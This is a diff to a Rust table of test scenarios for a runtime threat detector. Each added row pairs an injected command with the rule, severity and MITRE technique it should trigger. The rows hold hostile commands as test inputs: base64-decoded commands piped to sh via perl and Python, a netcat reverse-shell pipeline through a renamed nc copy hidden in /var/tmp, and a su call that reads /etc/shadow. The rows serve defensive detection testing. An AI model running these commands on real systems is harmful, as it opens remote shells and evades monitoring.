@@ -4,7 +4,7 @@
 //! `--user 65534` and on a read-only root too (the exec is what is judged, not whether it succeeded).
 
 use super::rows::EXEC;
-use super::{Arrival, Needs, Scenario, Tool};
+use super::{Arrival, Needs, Runs, Scenario, Tool};
 
 pub const POST_ROWS: &[Scenario] = &[
     Scenario {
@@ -116,6 +116,77 @@ pub const POST_ROWS: &[Scenario] = &[
         technique: "T1059.004",
         fields: &[("/processes/0/args", "=sh -c id -g")],
         needs: Needs::Nothing,
+        runs: EXEC,
+    },
+    Scenario {
+        // Perl's own base64 (`unpack "m"`, no module needed) handed to system().
+        name: "base64-perl-one-liner",
+        arrival: Arrival::Injection("perl -e 'system(unpack(\"m\",\"aWQgLXU=\"))'"),
+        category: "Defense Evasion: Base64 Encoded Script Executed",
+        severity: "MEDIUM",
+        rule: "base64_script_executed",
+        technique: "T1027",
+        fields: &[("/processes/0/args", "unpack")],
+        needs: Needs::Nothing,
+        runs: EXEC,
+    },
+    // Data-flow rules without the command line to lean on (issue 13, item 7): a pipeline typed into
+    // a reverse shell, one made by Python's subprocess, and a netcat relay through a renamed nc.
+    Scenario {
+        name: "decode-pipeline-typed",
+        arrival: Arrival::ReverseShell("echo ZWNobyBzdGFnZWQK | base64 -d | sh"),
+        category: "Command and Control: Piped Encoded Code Execution Detected",
+        severity: "HIGH",
+        rule: "piped_encoded_code_execution",
+        technique: "T1140",
+        fields: &[("/ancestors/0/args", "=bash -i")],
+        needs: Needs::Nothing,
+        runs: EXEC,
+    },
+    Scenario {
+        name: "decode-pipeline-python",
+        arrival: Arrival::Injection(
+            "python3 -c \"import subprocess as s;a=s.Popen(['base64','-d'],stdin=s.PIPE,stdout=s.PIPE);b=s.Popen(['sh'],stdin=a.stdout);a.stdout.close();a.stdin.write(b'ZWNobyBzdGFnZWQK');a.stdin.close();b.wait()\"",
+        ),
+        category: "Command and Control: Piped Encoded Code Execution Detected",
+        severity: "HIGH",
+        rule: "piped_encoded_code_execution",
+        technique: "T1140",
+        fields: &[("/ancestors/0/args", "python3 -c import subprocess")],
+        needs: Needs::Nothing,
+        runs: EXEC,
+    },
+    Scenario {
+        // nc copied under another name: still nc by its content (the image baseline's digest).
+        name: "netcat-relay-renamed",
+        arrival: Arrival::Connect {
+            inject: "cp \"$(command -v nc.openbsd)\" /var/tmp/.u && rm -f /tmp/.h && mkfifo /tmp/.h && cat /tmp/.h | sh -i 2>&1 | /var/tmp/.u {gw} {lport} > /tmp/.h",
+            typed: "id",
+            port: 0,
+        },
+        category: "Reverse Shell",
+        severity: "CRITICAL",
+        rule: "reverse_shell_netcat_pipeline",
+        technique: "T1059.004",
+        fields: &[("/description", "/var/tmp/.u {gw} {lport}")],
+        needs: Needs::ExecFromTmp,
+        runs: Runs::NotInGvisor(
+            "`runsc do` runs the host's root file system, which has no image baseline to know the copy by \
+             (tests/evasions.rs covers renamed copies on the host with a baseline under both sensors)",
+        ),
+    },
+    Scenario {
+        // su as root reads /etc/shadow through PAM (pam_unix's account check): LOW, whether the watcher
+        // finds su holding it or only su started in the second before (the sleep keeps the injected
+        // shell's own exec out of that second).
+        name: "pam-shadow-read",
+        arrival: Arrival::Injection("sleep 1.5; su -s /bin/true nobody"),
+        category: "Credential Access: Access Sensitive Files On Nodes",
+        severity: "LOW",
+        rule: "file_sensitive_file_opened_by_auth_program",
+        technique: "T1003.008",
+        fields: &[("/files/0/path", "=/etc/shadow")],
+        needs: Needs::Root,
         runs: EXEC,
     },
     // The file watcher's persistence rows (root: the files are root's).
